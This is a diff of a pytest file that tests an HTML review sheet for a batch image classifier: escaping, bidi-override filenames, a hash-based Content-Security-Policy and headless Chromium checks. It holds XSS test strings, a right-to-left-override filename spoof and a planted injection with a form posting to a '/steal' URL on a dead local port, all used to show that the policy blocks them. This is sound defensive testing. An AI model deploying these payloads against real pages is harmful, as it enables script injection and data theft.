@@ -1,4 +1,8 @@
-"""The HTML review sheet: hand-made job folders of both layouts, the page's text, and a real headless Chromium."""
+"""The HTML review sheet: hand-made job folders of both layouts, the page's text and policy, and a real headless Chromium.
+
+The keyboard station itself (200 items, reload, group accept, ``review apply``) and the 10,000-card sheet are
+tested in tests/test_review_station.py, which uses the browser helpers here.
+"""
 
 from __future__ import annotations
 
@@ -24,13 +28,14 @@ from batchclf.report.summary import summarise
 from batchclf.scan.discovery import Candidate
 from batchclf.scan.prepare import prepare
 from batchclf.watch.journal import FileRecord, Journal
-from tests.helpers import apt_install, ink_digit
+from tests.helpers import ink_digit
 
 CLASSIFY_ID = "20261124T031502Z-3f9a"
 DAY = "2026-11-25"
 HOSTILE = "<script>alert(1)</script> \"q\" 'x'.png"
 HOSTILE_REASON = "<img src=x onerror=alert(2)> not a recognised image format"
 NEWLINE = "new\nline.png"
+BIDI = "scan-17\u202egnp.fdp"  # shows as "scan-17pdf.png" unless the override is isolated or escaped
 PAPER_BY_PAGE = (235, 195, 155)  # each TIFF page on its own paper grey, to tell which page a thumbnail shows
 CHROMIUM = Path("/usr/bin/chromium")
 CHROMIUM_ARGS = [
@@ -100,6 +105,7 @@ class Fixture:
         pages = [drawn(digit, paper) for digit, paper in zip("135", PAPER_BY_PAGE)]
         pages[0].save(self.scans / "pages.tif", save_all=True, append_images=pages[1:])
         drawn("2", size=30).save(self.scans / "=small.png")  # formula-like name, tiny image
+        drawn("1").save(self.scans / BIDI, "PNG")
         self.newline = newline_names_allowed(self.scans)
         rows = [
             review("digit.png"),
@@ -112,6 +118,7 @@ class Fixture:
             review(HOSTILE, label=7),
             other("bad.png", "failed", page=None, error=HOSTILE_REASON),
             review("=small.png", label=2),
+            review(BIDI, label=1),
             other("ok.png", "duplicate"),
         ]
         if self.newline:
@@ -166,66 +173,119 @@ def sheet(fixture) -> tuple[Path, str, int, list]:
     return path, path.read_text(encoding="utf-8"), items, summaries
 
 
-def cards(html: str) -> list[str]:
-    return re.findall(r"<article class=\"card .*?</article>", html, re.S)
+def items(html: str) -> list[dict]:
+    """The cards' data, from the JSON blocks the sheet's script draws them from (grid order)."""
+    blocks = re.findall(r'<script type="application/json" class="items" data-job="([^"]*)">(.*?)</script>', html, re.S)
+    return [{**item, "job": job} for job, block in blocks for item in json.loads(block)]
 
 
-def card_of(html: str, escaped_file: str, page: int | None = None) -> str:
-    matches = [card for card in cards(html) if f">{escaped_file}</p>" in card and (page is None or f"page {page} ·" in card)]
-    assert len(matches) == 1, f"{escaped_file} page {page}: {len(matches)} cards"
+def item_of(html: str, file: str, page: int | None = None) -> dict:
+    matches = [item for item in items(html) if item["file"] == file and (page is None or item["page"] == page)]
+    assert len(matches) == 1, f"{file} page {page}: {len(matches)} items"
     return matches[0]
 
 
-def data_uri_image(card: str, alt: str) -> Image.Image:
-    uri = re.search(rf'src="data:image/png;base64,([^"]+)" alt="{alt}', card).group(1)
-    return Image.open(io.BytesIO(base64.b64decode(uri)))
+def data_uri_image(uri: str) -> Image.Image:
+    assert uri.startswith("data:image/png;base64,")
+    return Image.open(io.BytesIO(base64.b64decode(uri.split(",", 1)[1])))
+
+
+def content_security_policy(html: str) -> dict[str, str]:
+    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html).group(1)
+    return {part.split()[0]: " ".join(part.split()[1:]) for part in policy.split(";") if part.strip()}
+
+
+def inline(html: str, tag: str) -> list[str]:
+    """The text of every inline ``<tag>`` element that the browser runs or applies (JSON data blocks excluded)."""
+    return re.findall(rf"<{tag}>(.*?)</{tag}>", html, re.S)
+
+
+def sha256_source(text: str) -> str:
+    import hashlib
+
+    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode("utf-8")).digest()).decode("ascii") + "'"
 
 
 # -- the page's contents ------------------------------------------------------------------------
 
 
 def test_one_card_for_every_review_and_failed_row(fixture, sheet):
-    _, html, items, summaries = sheet
+    _, html, shown, summaries = sheet
     expected = sum(s["counts"]["review"] + s["counts"]["failed"] for s in summaries)
-    assert items == expected == len(fixture.classify_items) + len(fixture.day_items)
-    assert len(cards(html)) == items
-    assert html.count('class="card failed"') == 2
+    assert shown == expected == len(fixture.classify_items) + len(fixture.day_items)
+    assert [(item["file"], item["page"]) for item in items(html)] == fixture.classify_items + fixture.day_items
+    assert [item["status"] for item in items(html)].count("failed") == 2
+    assert {item["job"] for item in items(html)} == {CLASSIFY_ID, f"watch-{DAY}"}
 
 
 def test_file_names_and_reasons_are_escaped(sheet):
     _, html, _, _ = sheet
     assert "<script>alert" not in html and "<img src=x" not in html
-    assert html.count("<script") == 1  # the sheet's own script, nothing from the data
-    assert "&lt;script&gt;alert(1)&lt;/script&gt; &#34;q&#34; &#39;x&#39;.png" in html
-    assert "&lt;img src=x onerror=alert(2)&gt; not a recognised image format" in html
+    assert len(inline(html, "script")) == 1  # the sheet's own script; the data blocks never run
+    # In the data blocks, |tojson escapes < > & ' so no name can close the block.
+    assert "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\\"q\\\" \\u0027x\\u0027.png" in html
+    assert item_of(html, HOSTILE)["shown"] == HOSTILE
+    assert item_of(html, "bad.png")["reason"] == HOSTILE_REASON
+
+
+def test_bidi_and_control_characters_in_names_are_shown_escaped(fixture, sheet):
+    """Issue 23 point 15: a right-to-left override cannot make scan-17<RLO>gnp.fdp look like scan-17pdf.png."""
+    _, html, _, _ = sheet
+    assert "\u202e" not in html  # the raw override nowhere in the page (the JSON data has it as \u202e)
+    item = item_of(html, BIDI)
+    assert item["shown"] == "scan-17\\u202egnp.fdp"
+    if fixture.newline:
+        assert item_of(html, NEWLINE)["shown"] == "new\\x0aline.png"
+
+
+def test_header_names_each_jobs_input_folder_and_zero_counts_are_not_red(fixture, sheet):
+    _, html, _, _ = sheet
+    rows = re.findall(r"<tr>\s*<td class=\"text id\">.*?</tr>", html, re.S)
+    assert len(rows) == 2
+    assert f"<bdi>{fixture.scans}</bdi>" in rows[0] and f"<bdi>{fixture.root / 'inbox'}</bdi>" in rows[1]
+    # The classify job has failures (red), the daemon day too; a job without any must not be red.
+    folder = write_job(fixture.root / "20261126T020000Z-00bb", [review("digit.png")], {"kind": "classify", "inputs": [str(fixture.scans)]})
+    job = read_job(folder)
+    path = fixture.root / "zero.html"
+    write_review_sheet(path, [job], [summarise(job)])
+    zero = path.read_text(encoding="utf-8")
+    assert '<td class="failed">0 <small>0.0%</small></td>' in zero
+    assert '<td class="review some">1 <small>100.0%</small></td>' in zero
+    assert 'td.failed.some {' in zero and "td.failed {" not in zero
 
 
 def test_self_contained_under_a_strict_content_security_policy(sheet):
+    """Issue 23 point 15: no 'unsafe-inline' script, no form target, no <base>; the sheet's own style and script by hash."""
     _, html, _, _ = sheet
-    assert "default-src 'none'; img-src data:; style-src 'unsafe-inline'; script-src 'unsafe-inline'" in html
+    policy = content_security_policy(html)
+    assert policy["default-src"] == "'none'" and policy["img-src"] == "data:"
+    assert policy["form-action"] == "'none'" and policy["base-uri"] == "'none'"
+    assert "unsafe" not in policy["script-src"] and "unsafe" not in policy["style-src"]
+    (script,), (style,) = inline(html, "script"), inline(html, "style")
+    assert policy["script-src"] == sha256_source(script) and policy["style-src"] == sha256_source(style)
     assert not re.search(r"""\s(src|href)=["'](?!data:)""", html)
     assert "<link" not in html and "@import" not in html and "url(" not in html
+    assert " style=" not in html and " on" not in re.sub(r"<script>.*?</script>", "", html, flags=re.S).replace(" onerror=alert", "")
 
 
 def test_gone_and_unreadable_images_are_placeholders(sheet):
     _, html, _, _ = sheet
-    gone = card_of(html, "gone.png")
-    assert gone.count('<div class="placeholder">missing</div>') == 2 and "<img" not in gone
-    assert "<input" not in gone  # nothing to look at, nothing to correct
-    assert 'class="placeholder">unreadable: not a recognised image format<' in card_of(html, "bad.png")
-    assert 'class="placeholder">unreadable: ' in card_of(html, "broken.png")
+    gone = item_of(html, "gone.png")
+    assert gone["note"] == "missing" and gone["original"] is None and gone["seen"] is None
+    assert item_of(html, "bad.png")["note"] == "unreadable: not a recognised image format"
+    assert item_of(html, "broken.png")["note"].startswith("unreadable: ")
 
 
 def test_daemon_inputs_are_found_in_the_inbox_and_where_the_journal_moved_them(sheet):
     _, html, _, _ = sheet
     for name in ("waiting.png", "moved.png"):
-        card = card_of(html, name)
-        assert 'alt="original image"' in card and 'alt="the 28×28 the model saw"' in card
+        item = item_of(html, name)
+        assert item["original"].startswith("data:image/png") and item["seen"].startswith("data:image/png")
 
 
 def test_the_28x28_is_what_prediction_saw(fixture, sheet):
     _, html, _, _ = sheet
-    shown = np.asarray(data_uri_image(card_of(html, "digit.png"), "the 28×28"))
+    shown = np.asarray(data_uri_image(item_of(html, "digit.png")["seen"]))
     predicted = prepare(Candidate(fixture.scans, fixture.scans / "digit.png"))[0].image
     assert shown.shape == (28, 28) and np.array_equal(shown, predicted)
 
@@ -233,7 +293,7 @@ def test_the_28x28_is_what_prediction_saw(fixture, sheet):
 def test_a_multi_page_tiff_shows_the_rows_page(sheet):
     _, html, _, _ = sheet
     for page in (2, 3):
-        original = data_uri_image(card_of(html, "pages.tif", page), "original image")
+        original = data_uri_image(item_of(html, "pages.tif", page)["original"])
         assert max(original.size) <= 160
         assert abs(original.getpixel((2, 2)) - PAPER_BY_PAGE[page - 1]) <= 2
 
@@ -246,9 +306,24 @@ def test_a_changed_file_is_flagged_and_a_vanished_page_is_a_placeholder(tmp_path
     job = read_job(write_job(tmp_path / CLASSIFY_ID, rows, {"kind": "classify", "inputs": [str(scans)]}))
     path = tmp_path / "sheet.html"
     assert write_review_sheet(path, [job], [summarise(job)]) == 2
-    changed, vanished = cards(path.read_text(encoding="utf-8"))
-    assert "The file has changed since it was classified." in changed and 'alt="original image"' in changed
-    assert 'class="placeholder">page 4 is not in the file now<' in vanished
+    changed, vanished = items(path.read_text(encoding="utf-8"))
+    assert changed["changed"] is True and changed["original"].startswith("data:image/png")
+    assert vanished["note"] == "page 4 is not in the file now"
+
+
+def test_a_confidence_that_is_not_a_number_does_not_break_the_cards_data(fixture, tmp_path):
+    rows = [review("digit.png", confidence=float("nan")), review("digit.png", page=2, confidence=float("inf"))]
+    job = read_job(write_job(tmp_path / CLASSIFY_ID, rows, {"kind": "classify", "inputs": [str(fixture.scans)]}))
+    finite = read_job(write_job(tmp_path / "finite" / CLASSIFY_ID, [review("digit.png"), review("digit.png", page=2)], job.meta))
+    path = tmp_path / "nan.html"
+    write_review_sheet(path, [job], [summarise(finite)])  # the summary of such a job is another matter (report/summary.py)
+    blocks = re.findall(r'<script type="application/json" class="items" data-job="[^"]*">(.*?)</script>', path.read_text(encoding="utf-8"), re.S)
+
+    def refuse(constant):
+        raise ValueError(f"{constant} is not JSON")
+
+    data = json.loads(blocks[0], parse_constant=refuse)  # what JSON.parse in the browser accepts
+    assert [(item["conf"], item["confidence"]) for item in data] == [(None, None), (None, None)]
 
 
 def test_nothing_to_review(fixture, tmp_path):
@@ -257,7 +332,7 @@ def test_nothing_to_review(fixture, tmp_path):
     path = tmp_path / "empty.html"
     assert write_review_sheet(path, [job], [summarise(job)]) == 0
     html = path.read_text(encoding="utf-8")
-    assert "Nothing to review" in html and 'id="save"' not in html and not cards(html)
+    assert "Nothing to review" in html and 'id="save"' not in html and not items(html)
 
 
 def test_writing_a_sheet_imports_no_tensorflow(fixture):
@@ -281,74 +356,103 @@ def test_writing_a_sheet_imports_no_tensorflow(fixture):
 
 
 def chromium_or_skip() -> Path:
+    """Debian's Chromium driven by Playwright; never installed by a test."""
     try:
         import playwright.sync_api  # noqa: F401
     except ImportError as exc:
         pytest.skip(f"browser test skipped: playwright is not importable ({exc}); pip install -e '.[dev]'")
     if not CHROMIUM.exists():
-        apt_install("chromium")
-    if not CHROMIUM.exists():
-        pytest.skip(f"browser test skipped: {CHROMIUM} is missing and could not be installed (apt-get install chromium, as root)")
+        pytest.skip(f"browser test skipped: {CHROMIUM} is missing; install chromium (CI installs it in .ci/run)")
     return CHROMIUM
 
 
+class Browser:
+    """One headless Chromium page that records console errors, page errors and every request that is not a file:// or data: one."""
+
+    def __init__(self, playwright, viewport=(1280, 900)):
+        self.browser = playwright.chromium.launch(executable_path=str(chromium_or_skip()), args=CHROMIUM_ARGS)
+        self.context = self.browser.new_context(viewport={"width": viewport[0], "height": viewport[1]}, accept_downloads=True)
+        self.page = self.context.new_page()
+        self.problems: list[str] = []
+        self.requests: list[str] = []
+        self.page.on("console", lambda message: message.type == "error" and self.problems.append(f"console: {message.text}"))
+        self.page.on("pageerror", lambda error: self.problems.append(f"page error: {error}"))
+        self.context.route("**/*", self._route)
+
+    def _route(self, route):
+        url = route.request.url
+        if url.startswith(("file:", "data:", "blob:")):
+            route.continue_()
+        else:
+            self.requests.append(url)
+            route.abort()
+
+    def open(self, path: Path, station: bool = True) -> None:
+        self.page.goto(path.as_uri())
+        if station:  # the script has drawn the first page of cards
+            self.page.wait_for_selector("#grid[data-ready]", state="attached", timeout=60000)
+
+    def close(self) -> None:
+        self.browser.close()
+
+
 def test_in_headless_chromium(fixture, sheet, tmp_path):
-    executable = chromium_or_skip()
+    chromium_or_skip()
     from playwright.sync_api import sync_playwright
 
-    path, _, items, _ = sheet
+    path, _, shown, _ = sheet
     order = fixture.classify_items + fixture.day_items
-    corrected = {(HOSTILE, 1): "7", (NEWLINE if fixture.newline else "=small.png", 1): "3"}
-    problems = []
     with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=str(executable), args=CHROMIUM_ARGS)
+        browser = Browser(playwright)
         try:
-            page = browser.new_page(viewport={"width": 1280, "height": 900}, accept_downloads=True)
-            page.on("console", lambda message: message.type == "error" and problems.append(f"console: {message.text}"))
-            page.on("pageerror", lambda error: problems.append(f"page error: {error}"))
-            page.goto(path.as_uri())
-            assert page.locator("article.card").count() == items
-            assert page.locator("article.card img.thumb").count() >= items - 4  # gone, bad, broken: placeholders
-            names = page.locator("article.card .file")
+            page = browser.page
+            browser.open(path)
+            assert page.locator("article.card").count() == shown  # fewer than a page: all drawn
+            assert page.locator("article.card img.thumb").count() == 2 * (shown - 3)  # gone, bad, broken: placeholders
+            names = page.locator("article.card .file bdi")
             assert names.nth(order.index((HOSTILE, 1))).text_content() == HOSTILE
+            assert names.nth(order.index((BIDI, 1))).text_content() == "scan-17\\u202egnp.fdp"
             if fixture.newline:
-                assert names.nth(order.index((NEWLINE, 1))).text_content() == NEWLINE
-
-            # Inputs come in grid order, minus the cards without an image to judge.
-            inputs = page.locator(".correction input")
-            keys = [json.loads(key) for key in inputs.evaluate_all("list => list.map(i => i.dataset.key)")]
-            assert [(k["file"], k["page"]) for k in keys] == [
-                item for item in order if item not in {("gone.png", 1), ("bad.png", None), ("broken.png", None)}
-            ]
-            positions = [(k["file"], k["page"]) for k in keys]
-            inputs.nth(positions.index(("digit.png", 1))).press_sequentially("x")  # not a digit: refused
-            assert inputs.nth(positions.index(("digit.png", 1))).input_value() == ""
-            for key, digit in corrected.items():
-                inputs.nth(positions.index(key)).fill(digit)
-            assert page.locator("#status").text_content() == "2 corrections (not saved)"
-            inputs.nth(0).focus()
-            page.keyboard.press("Enter")  # Enter walks the grid like Tab
-            assert json.loads(page.evaluate("document.activeElement.dataset.key")) == keys[1]
-            with page.expect_download() as download_info:
-                page.click("#save")
-            download = download_info.value
-            assert download.suggested_filename == "corrections.csv"
-            saved = Path(download.path()).read_bytes().decode("utf-8")
-
-            page.evaluate("window.scrollTo(0, 0)")  # the sticky toolbar back on top for the picture
-            screenshot = tmp_path / "review-sheet.png"
-            page.screenshot(path=str(screenshot), full_page=True)
-            if os.environ.get("BATCHCLF_ARTIFACTS"):
+                assert names.nth(order.index((NEWLINE, 1))).text_content() == "new\\x0aline.png"
+            assert page.locator(".reason bdi").nth(order.index(("bad.png", None))).text_content() == HOSTILE_REASON
+            assert page.locator("article.card.current").count() == 1
+            assert page.locator("#progress").text_content() == f"Done 0 · to do {shown - 3}"
+            if os.environ.get("BATCHCLF_ARTIFACTS"):  # a picture of the sheet for CI's artefacts
                 artefacts = Path(os.environ["BATCHCLF_ARTIFACTS"])
                 artefacts.mkdir(parents=True, exist_ok=True)
+                screenshot = tmp_path / "review-sheet.png"
+                page.screenshot(path=str(screenshot), full_page=True)
                 shutil.copy(screenshot, artefacts / "test_report_html-review-sheet.png")
         finally:
             browser.close()
+    assert not browser.problems, browser.problems
+    assert not browser.requests, browser.requests
 
-    lines = ["file,page,label", "\"<script>alert(1)</script> \"\"q\"\" 'x'.png\",1,7"]
-    lines.append('"new\nline.png",1,3' if fixture.newline else "=small.png,1,3")
-    assert saved == "\r\n".join(lines) + "\r\n"
-    assert list(csv.DictReader(io.StringIO(saved, newline=""))) == [
-        {"file": file, "page": str(page_number), "label": label} for (file, page_number), label in corrected.items()
-    ]
-    assert not problems, problems
+
+def test_an_escaping_bug_could_not_run_script_post_a_form_or_move_the_base(fixture, sheet, tmp_path):
+    """Issue 23 point 15: what an injection would try, planted in a copy of the sheet; the policy stops every one."""
+    chromium_or_skip()
+    from playwright.sync_api import sync_playwright
+
+    _, html, _, _ = sheet
+    injected = (
+        '<base href="http://127.0.0.1:9/">'
+        "<script>window.injected = true;</script>"
+        '<img src="x" onerror="window.injected = true">'
+        '<form id="exfiltrate" action="http://127.0.0.1:9/steal" method="post"><input name="data" value="x"></form>'
+    )
+    path = tmp_path / "injected.html"
+    path.write_text(html.replace("<header", injected + "<header", 1), encoding="utf-8")
+    with sync_playwright() as playwright:
+        browser = Browser(playwright)
+        try:
+            page = browser.page
+            browser.open(path, station=False)  # whatever the sheet's own script does, the planted one must not run
+            assert page.evaluate("window.injected === undefined")
+            assert page.evaluate("document.baseURI") == path.as_uri()
+            page.evaluate("document.getElementById('exfiltrate').submit()")  # as a planted script would, if it could run
+            page.wait_for_timeout(300)
+            assert page.url == path.as_uri()
+        finally:
+            browser.close()
+    assert not browser.requests, browser.requests
